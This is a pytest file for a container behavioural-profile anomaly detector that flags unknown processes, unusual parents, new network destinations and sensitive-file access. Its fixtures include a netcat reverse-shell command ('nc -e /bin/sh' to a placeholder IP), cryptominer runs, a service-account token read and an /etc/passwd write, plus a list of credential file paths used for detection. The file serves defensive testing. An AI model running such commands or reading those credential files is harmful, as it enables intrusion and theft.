"""Behavioural profiles in memory: learning by event time, warm start, scoring, explanations,
re-alert suppression, caps, JSON, and the path rules."""

from __future__ import annotations

import copy
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from qcdr_analysis.detectors import DETECTORS, load_detectors
from qcdr_analysis.findings.service import DetectorConfigError, DetectorSet
from qcdr_analysis.profiles.features import extract
from qcdr_analysis.profiles.paths import DEFAULT_SENSITIVE, SensitiveMatcher, binary_dir_write
from qcdr_analysis.profiles.profile import Limits, Profile
from qcdr_common.contracts.events.v1 import SecurityEvent, Severity
from qcdr_common.contracts.findings.v1 import FindingKind
from qcdr_ingest.events.adapters.tetragon import convert

from tests.analysis.conftest import T0, load_events
from tests.analysis.profiles_factory import (
    HOURS,
    OTHER_DIGEST,
    PROFILE,
    WORKLOAD,
    by_category,
    connect_event,
    detector,
    exec_event,
    file_event,
    learn_api,
    run,
)

READY = T0 + 48 * HOURS
SECOND = timedelta(seconds=1)


def test_registered_with_its_config() -> None:
    load_detectors()
    assert "behaviour_profile" in DETECTORS.names()
    with pytest.raises(DetectorConfigError, match="learning_period"):
        DetectorSet.configure({"behaviour_profile": {"learning_period": "PT0S"}})
    with pytest.raises(DetectorConfigError, match="sensitive path pattern"):
        DetectorSet.configure({"behaviour_profile": {"sensitive_paths_extra": ["etc/x"]}})
    with pytest.raises(DetectorConfigError, match="unknown_key"):
        DetectorSet.configure({"behaviour_profile": {"unknown_key": 1}})


def test_learning_then_ready_by_event_time_not_wall_clock() -> None:
    state = detector()
    # 47 hours of learning: a new binary is learned, not reported
    learn_api(state, hours=47)
    assert run(state, exec_event("/usr/bin/wget", T0 + 47 * HOURS + timedelta(minutes=59))) == []
    profile = state.store.get(PROFILE)
    assert profile is not None
    assert profile.state == "learning"
    assert "/usr/bin/wget" in profile.processes
    # the first event at ready_at (event time: the test runs in milliseconds) scores
    findings = run(state, exec_event("/usr/bin/nc", READY, arguments="-e /bin/sh 1.2.3.4 4444"))
    assert profile.state == "ready"
    assert {f.category for f in findings} == {"anomaly.unknown_process", "drift.new_executable"}
    # an event from inside the learning window arriving late is still learned, not scored
    assert run(state, exec_event("/usr/bin/top", T0 + 5 * HOURS)) == []
    assert "/usr/bin/top" in profile.processes


def test_a_late_earlier_event_moves_the_window_while_learning() -> None:
    state = detector(learning_period="PT2H")
    run(state, exec_event("/bin/a", T0))
    run(state, exec_event("/bin/b", T0 - HOURS))
    profile = state.store.get(PROFILE)
    assert profile is not None
    assert profile.first_seen == (T0 - HOURS).timestamp()
    assert profile.ready_at == (T0 + HOURS).timestamp()
    assert profile.last_seen == T0.timestamp()


def test_warm_start_a_second_workload_of_the_same_image_is_ready() -> None:
    state = detector()
    learn_api(state)
    run(state, exec_event("/usr/local/bin/python3", READY, parent="/usr/local/bin/gunicorn"))
    # a new Deployment (another owner, namespace, pod) running the same image digest
    other = exec_event(
        "/usr/local/bin/python3", READY + HOURS, parent="/usr/local/bin/gunicorn", owner="api-canary"
    )
    assert other.workload.image_digest == PROFILE
    assert run(state, other) == []
    findings = run(state, exec_event("/usr/bin/xmrig", READY + 2 * HOURS, owner="api-canary"))
    assert "anomaly.unknown_process" in by_category(findings)
    profile = state.store.get(PROFILE)
    assert profile is not None
    assert set(profile.workloads) == {WORKLOAD, "prod/shop/Deployment/api-canary"}
    # another digest learns on its own
    assert run(state, exec_event("/usr/bin/xmrig", READY + 2 * HOURS, digest=OTHER_DIGEST)) == []
    assert state.store.get(f"sha256:{OTHER_DIGEST}") is not None


def test_unknown_process_finding_and_its_explanation() -> None:
    state = detector()
    learn_api(state)
    findings = by_category(run(state, exec_event("/tmp/kworker", READY, parent="/bin/sh")))
    anomaly = findings["anomaly.unknown_process"]
    assert anomaly.kind == FindingKind.ANOMALY
    assert anomaly.detector == "behaviour_profile"
    assert anomaly.severity == Severity.CRITICAL  # runs from /tmp
    assert anomaly.techniques == ("T1059",)
    attributes = anomaly.attributes
    assert attributes["workload_key"] == WORKLOAD
    assert attributes["profile_key"] == PROFILE
    explanation = attributes["explanation"]
    assert explanation["new"]["path"] == "/tmp/kworker"
    assert explanation["baseline"]["known"] == 2
    assert explanation["baseline"]["top"][0] == {"value": "/usr/bin/curl", "count": 48}
    assert explanation["learning"]["period_hours"] == 48
    score = explanation["score"]
    assert score["value"] == 95
    assert score["base"] == 85
    assert score["threshold"] == 70
    assert {"reason": "runs from the writable directory /tmp", "delta": 10} in score["adjustments"]
    assert attributes["score"] == 95
    assert (
        "2 known processes: /usr/bin/curl (48 execs), /usr/local/bin/python3 (48 execs)"
        in anomaly.explanation
    )
    assert "learned over 48 h of event time" in anomaly.explanation
    assert "Score 95/100" in anomaly.explanation
    drift = findings["drift.new_executable"]
    assert attributes["related_findings"] == [drift.id]
    assert anomaly.evidence_event_ids == drift.evidence_event_ids


def test_rarity_lowers_the_score_of_an_image_that_keeps_doing_new_things() -> None:
    steady, noisy = detector(drift=False), detector(drift=False)
    learn_api(steady)
    learn_api(noisy)
    for h in range(40):  # one new binary an hour, while learning
        run(noisy, exec_event(f"/usr/bin/tool{h}", T0 + h * HOURS))
    calm = by_category(run(steady, exec_event("/usr/bin/xmrig", READY)))["anomaly.unknown_process"]
    busy = by_category(run(noisy, exec_event("/usr/bin/xmrig", READY)))["anomaly.unknown_process"]
    assert calm.attributes["score"] == 85
    assert busy.attributes["score"] < calm.attributes["score"]
    assert "novelty rate of processes" in busy.explanation


def test_unusual_parent_is_raised_only_for_a_shell_or_web_server() -> None:
    state = detector()
    learn_api(state)
    # python started by cron: recorded, below the threshold
    assert run(state, exec_event("/usr/local/bin/python3", READY, parent="/usr/sbin/cron")) == []
    profile = state.store.get(PROFILE)
    assert profile is not None
    assert profile.novel["anomaly.unusual_parent\x1f/usr/sbin/cron > /usr/local/bin/python3"].alerted is None
    # curl started by nginx (a web shell's pattern): raised
    findings = run(state, exec_event("/usr/bin/curl", READY + HOURS, parent="/usr/sbin/nginx"))
    finding = by_category(findings)["anomaly.unusual_parent"]
    assert finding.severity == Severity.MEDIUM
    assert finding.techniques == ("T1505.003",)
    assert finding.attributes["score"] == 75
    assert "parents of /usr/bin/curl: /bin/sh (48 times)" in finding.explanation


def test_unknown_destination_high_on_a_new_port_medium_on_a_known_one() -> None:
    state = detector()
    learn_api(state)
    new_port = by_category(run(state, connect_event("/usr/local/bin/python3", "203.0.113.9", 4444, READY)))
    finding = new_port["anomaly.unknown_destination"]
    assert finding.severity == Severity.HIGH
    assert finding.techniques == ("T1571",)
    assert finding.network is not None
    assert finding.network.port == 4444
    assert "1 known destinations: 10.0.0.20:5432 (48 connections); known ports: 5432" in finding.explanation
    # a new peer on the known port: medium, 75, above the threshold (C2 and exfiltration use 443)
    known = by_category(run(state, connect_event("/usr/local/bin/python3", "10.0.0.21", 5432, READY)))
    assert known["anomaly.unknown_destination"].severity == Severity.MEDIUM
    assert known["anomaly.unknown_destination"].techniques == ()
    profile = state.store.get(PROFILE)
    assert profile is not None
    assert "anomaly.unknown_destination\x1f10.0.0.21:5432" in profile.novel


def test_sensitive_file_is_critical_other_new_files_are_recorded() -> None:
    state = detector()
    learn_api(state)
    findings = run(
        state,
        file_event("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", READY),
        file_event("/usr/local/bin/python3", "/app/other.yaml", READY),
    )
    finding = by_category(findings)["anomaly.sensitive_file"]
    assert finding.severity == Severity.CRITICAL
    assert finding.techniques == ("T1528",)
    assert (
        finding.attributes["explanation"]["new"]["pattern"]
        == "/var/run/secrets/kubernetes.io/serviceaccount/"
    )
    assert "anomaly.unknown_file" not in by_category(findings)  # low, 40: recorded only
    # /etc/passwd was read while learning: reading it is known, writing it is new
    assert run(state, file_event("/usr/local/bin/python3", "/etc/passwd", READY)) == []
    written = by_category(run(state, file_event("/bin/sh", "/etc/passwd", READY, write=True)))
    assert written["anomaly.sensitive_file"].attributes["score"] == 100
    assert "only ever read while the profile learned" in written["anomaly.sensitive_file"].explanation


def test_the_same_new_behaviour_alerts_once_per_realert_window() -> None:
    state = detector(realert_after="PT24H")
    learn_api(state)
    first = run(state, exec_event("/usr/bin/xmrig", READY))
    assert len(first) == 2
    assert run(state, exec_event("/usr/bin/xmrig", READY + HOURS)) == []
    assert run(state, exec_event("/usr/bin/xmrig", READY + 23 * HOURS)) == []
    again = run(state, exec_event("/usr/bin/xmrig", READY + 24 * HOURS))
    assert {f.category for f in again} == {"anomaly.unknown_process", "drift.new_executable"}
    assert {f.id for f in again}.isdisjoint({f.id for f in first})
    profile = state.store.get(PROFILE)
    assert profile is not None
    novel = profile.novel["anomaly.unknown_process\x1f/usr/bin/xmrig"]
    assert novel.count == 4
    assert novel.alerted == (READY + 24 * HOURS).timestamp()
    # seen after learning is not the baseline
    assert "/usr/bin/xmrig" not in profile.processes


def test_caps_bound_memory_and_count_what_overflowed() -> None:
    state = detector(max_processes=3, max_files=2, max_destinations=2, max_ports=1, max_novel=2)
    for i in range(10):
        run(
            state,
            exec_event(f"/usr/bin/tool{i}", T0),
            file_event("/bin/sh", f"/data/{i}", T0),
            connect_event("/bin/sh", f"10.0.0.{i}", 1000 + i, T0),
        )
    profile = state.store.get(PROFILE)
    assert profile is not None
    assert (len(profile.processes), len(profile.files), len(profile.destinations), len(profile.ports)) == (
        3,
        2,
        2,
        1,
    )
    assert profile.overflow == {"processes": 7, "files": 8, "destinations": 8, "ports": 9}
    # what overflowed counts as unseen: the novelty rate is high, scores lower
    assert profile.missing_mass("processes") > 0.8
    for i in range(5):
        run(state, exec_event(f"/usr/bin/new{i}", READY + i * HOURS))
    assert len(profile.novel) == 2
    assert profile.overflow["novel"] == 8


def test_json_round_trip_keeps_everything() -> None:
    state = detector()
    learn_api(state)
    run(
        state,
        exec_event("/usr/bin/xmrig", READY),
        exec_event("/usr/bin/apt-get", READY, arguments="install nmap"),
    )
    profile = state.store.get(PROFILE)
    assert profile is not None
    copy = Profile.from_json(profile.to_json(), Limits(), generation=3)
    assert copy.to_json() == profile.to_json()
    assert copy.generation == 3
    assert copy.state == "ready"
    assert copy.observations == profile.observations
    assert copy.singletons == profile.singletons
    with pytest.raises(ValueError, match="version"):
        Profile.from_json({**profile.to_json(), "v": 99}, Limits(), 1)


def ready_profile_json() -> dict[str, Any]:
    """A learned, ready profile's JSON with every part filled (processes, destinations, ports,
    files, workloads, behaviour seen after learning)."""
    state = detector()
    learn_api(state)
    run(state, exec_event("/usr/bin/xmrig", READY))
    profile = state.store.get(PROFILE)
    assert profile is not None
    data = profile.to_json()
    assert all(data[part] for part in ("processes", "destinations", "ports", "files", "workloads", "novel"))
    return data


def _first(data: dict[str, Any], part: str) -> Any:
    return next(iter(data[part].values())) if isinstance(data[part], dict) else data[part][0]


@pytest.mark.parametrize(
    ("spoil", "reason"),
    [
        # text where epoch seconds belong (a shared baseline of another producer): the API's
        # datetime.fromtimestamp and the detector's comparisons failed on it for good
        (lambda d: _first(d, "processes").__setitem__(1, "2026-03-01T12:00:00Z"), "processes.*time"),
        (lambda d: _first(d, "destinations").__setitem__(2, "yesterday"), "destinations.*time"),
        (lambda d: _first(d, "files").__setitem__(1, None), "files.*time"),
        (lambda d: _first(d, "novel").__setitem__(3, "now"), "novel.*time"),
        (lambda d: d.update(last_seen="2026-03-01"), "last_seen.*time"),
        (lambda d: d["workloads"].update(w="now"), "workloads.*time"),
        # numbers no datetime can hold (the API's fromtimestamp overflows)
        (lambda d: _first(d, "ports").__setitem__(2, 1e300), "ports.*time"),
        (lambda d: d.update(ready_at=float("nan")), "ready_at.*time"),
        (lambda d: d.update(first_seen=float("inf")), "first_seen.*time"),
        # counts: a bool is an int to Python, text and fractions are not counts
        (lambda d: _first(d, "processes").__setitem__(0, True), "processes.*count"),
        (lambda d: _first(d, "destinations").__setitem__(0, "3"), "destinations.*count"),
        (lambda d: _first(d, "files").__setitem__(0, 2.5), "files.*count"),
        (lambda d: _first(d, "novel").__setitem__(2, -1), "novel.*count"),
        (lambda d: d.update(events=False), "events.*count"),
        (lambda d: d.update(overflow={"processes": "many"}), "overflow.*count"),
        (lambda d: _first(d, "processes")[3].update(x="1"), "parents.*count"),
        # wrong shapes
        (lambda d: _first(d, "processes").__setitem__(3, []), "parents.*not an object"),
        (lambda d: d.update(destinations=[]), "destinations is a list"),
        (lambda d: _first(d, "ports").pop(), "ports.*not a list of 3"),
        (lambda d: d.update(ports={"http": [1, d["first_seen"], d["first_seen"]]}), "not a port number"),
        (lambda d: _first(d, "files").__setitem__(3, "yes"), "written.*not true or false"),
        (lambda d: d.update(ready="yes"), "ready.*not true or false"),
        (lambda d: _first(d, "novel").__setitem__(0, 7), "novel.*not text"),
    ],
)
def test_json_of_the_wrong_types_is_refused(spoil: Callable[[dict[str, Any]], None], reason: str) -> None:
    """What a profile holds is checked when it is read (from Postgres, or from another cluster's
    shared baseline): nothing that reads a loaded profile later can fail on a value's type."""
    data = ready_profile_json()
    assert Profile.from_json(copy.deepcopy(data), Limits(), 1).to_json() == data
    spoil(data)
    with pytest.raises(ValueError, match=reason):
        Profile.from_json(data, Limits(), 1)


def test_reset_clears_behaviour_keeps_workloads() -> None:
    state = detector()
    learn_api(state)
    profile = state.store.get(PROFILE)
    assert profile is not None
    profile.generation = 7
    profile.reset()
    assert profile.state == "learning"
    assert profile.first_seen is None
    assert profile.processes == {}
    assert profile.generation == 7
    assert set(profile.workloads) == {WORKLOAD}
    assert run(state, exec_event("/usr/bin/xmrig", READY)) == []  # learning again
    assert profile.first_seen == READY.timestamp()


def test_events_without_identity_or_behaviour_are_ignored() -> None:
    state = detector()
    bare = exec_event("/bin/sh").model_copy(
        update={
            "workload": exec_event("/bin/sh").workload.model_copy(
                update={"owner_name": None, "pod": None, "container_id": None}
            )
        }
    )
    exit_line = {
        "process_exit": {"process": {"binary": "/bin/sh", "pod": {"namespace": "shop", "name": "p"}}},
        "time": "2026-03-01T12:00:00Z",
    }
    assert run(state, bare, convert(exit_line, "prod")) == []
    assert state.store.profiles == {}


def test_the_same_event_twice_in_a_batch_is_learned_once() -> None:
    state = detector()
    event = exec_event("/bin/sh")
    run(state, event, event)
    profile = state.store.get(PROFILE)
    assert profile is not None
    assert profile.processes["/bin/sh"].count == 1
    assert profile.events == 1


def test_features_of_the_corpus_shapes(tetragon_corpus: Path) -> None:
    lifecycle = tetragon_corpus / "docs/security-observability-with-ebpf/03_chapter/00_process_lifecycle"
    exec_features = extract(convert(load_events(lifecycle / "nc_process_exec.json")[0], "prod"))
    assert exec_features is not None
    assert exec_features.exec_path == "/usr/bin/nc"
    connect = extract(convert(load_events(lifecycle / "nc_process_connect.json")[0], "prod"))
    assert connect is not None
    assert connect.dest_ip
    assert connect.dest_port
    assert extract(convert(load_events(lifecycle / "nc_process_close.json")[0], "prod")) is None
    access = tetragon_corpus / "docs-extracted-events/use-cases__filename-access.block0.json"
    file_features = extract(convert(load_events(access)[0], "prod"))
    assert file_features is not None
    assert file_features.files == ("/etc/passwd",)
    assert file_features.exec_path is None  # a hook, not an exec


def test_corpus_replayed_after_learning_raises_nothing_new(tetragon_corpus: Path) -> None:
    events = []
    for path in sorted(tetragon_corpus.rglob("*.json")):
        for raw in load_events(path) if path.stat().st_size < 1_000_000 else []:
            try:
                events.append(convert(raw, "prod"))
            except Exception:  # not every corpus JSON is an event
                continue
    assert len(events) > 40
    # the corpus spans years: squeeze it into the learning window, then replay it after
    state = detector(drift=False)
    run(state, *(e.model_copy(update={"event_time": T0 + i * SECOND}) for i, e in enumerate(events)))
    replay = [
        e.model_copy(update={"event_time": READY + i * SECOND, "id": e.id + "-again"})
        for i, e in enumerate(events)
    ]
    assert run(state, *replay) == []


def test_sensitive_paths_match_components_not_prefixes() -> None:
    matcher = SensitiveMatcher((*DEFAULT_SENSITIVE, ("**/.netrc", "T1552")))
    for path in (
        "/etc/shadow",
        "/etc//shadow",
        "/etc/./shadow",
        "/tmp/../etc/shadow",
        "/root/.ssh/id_rsa",
        "/home/dev/.ssh/authorized_keys",
        "/home/dev/.aws/credentials",
        "/root/.netrc",
        "/run/secrets/kubernetes.io/serviceaccount/token",
        "/etc/sudoers.d/90-users",
    ):
        assert matcher.match(path) is not None, path
    for path in (
        "/etc/shadow.bak",
        "/etc/shadowfax",
        "/root/.sshd/x",
        "/home/dev/.aws/credentials.txt",
        "/var/run/secrets/kubernetes.io/serviceaccountX/token",
        "/etc/sudoers-old",
        "/app/.ssh",
    ):
        assert matcher.match(path) is None, path
    assert binary_dir_write("/usr/bin/python3") == "/usr/bin"
    assert binary_dir_write("/usr//lib/x86_64-linux-gnu/libc.so.6") == "/usr/lib"
    assert binary_dir_write("/usr/binaries/x") is None
    assert binary_dir_write("/usr/lib/python3/dist-packages/__pycache__/six.cpython-311.pyc") is None


def test_a_workload_seen_only_through_hubble_flows_learns_its_destinations() -> None:
    """Cilium without Tetragon: the connection starts Hubble reports are the profile's network
    behaviour (keyed by the workload, as the flows carry no image), and a new peer is raised."""
    from qcdr_ingest.events.adapters.hubble import convert as hubble

    from tests.ingest.events.factories import hubble_flow

    def syn(daddr: str, port: int, at: timedelta) -> SecurityEvent:
        flow = hubble_flow(
            time=(T0 + at).isoformat(),
            IP={"source": "10.0.1.235", "destination": daddr},
            l4={"TCP": {"source_port": 40000, "destination_port": port, "flags": {"SYN": True}}},
        )
        flow.pop("time")
        return hubble(flow, "topgun")

    state = detector()
    for hour in range(48):
        assert run(state, syn("10.0.0.21", 5432, hour * HOURS)) == []
    found = by_category(run(state, syn("203.0.113.9", 4444, 49 * HOURS)))
    finding = found["anomaly.unknown_destination"]
    assert finding.source == "hubble"
    assert finding.workload.owner_name == "api"
    assert finding.network is not None
    assert (str(finding.network.ip), finding.network.port) == ("203.0.113.9", 4444)
    assert run(state, syn("10.0.0.21", 5432, 50 * HOURS)) == []  # the learned peer stays quiet
